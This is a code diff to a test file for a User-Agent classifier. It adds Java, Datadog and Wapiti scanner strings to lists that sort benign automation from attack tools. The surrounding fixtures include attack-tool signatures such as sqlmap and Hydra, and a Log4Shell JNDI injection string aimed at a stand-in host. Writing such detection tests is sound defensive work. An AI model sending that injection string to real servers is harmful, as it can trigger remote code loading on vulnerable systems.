@@ -173,6 +173,8 @@ describe("automation that says so", () => {
     ],
     ["a monitor", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"],
     ["bare okhttp", "okhttp/4.12.0"],
+    ["Java's own client", "Java1.8.0_362"],
+    ["a service's two names", "Datadog/Synthetics"],
     ["Go", "Go-http-client/2.0"],
     ["an unknown program with a name and a version", "acme-sync/3.2"],
     ["PowerShell", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1"],
@@ -203,6 +205,7 @@ describe("automation that does not, or attacks", () => {
     ["a header pasted into itself", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"],
     ["sqlmap", "sqlmap/1.8.4#stable (https://sqlmap.org)"],
     ["Hydra", "Mozilla/5.0 (Hydra)"],
+    ["Wapiti", "Wapiti/3.1"],
     ["ApacheBench", "ApacheBench/2.3"],
     ["Log4Shell", "${jndi:ldap://x.test/a}"],
     [
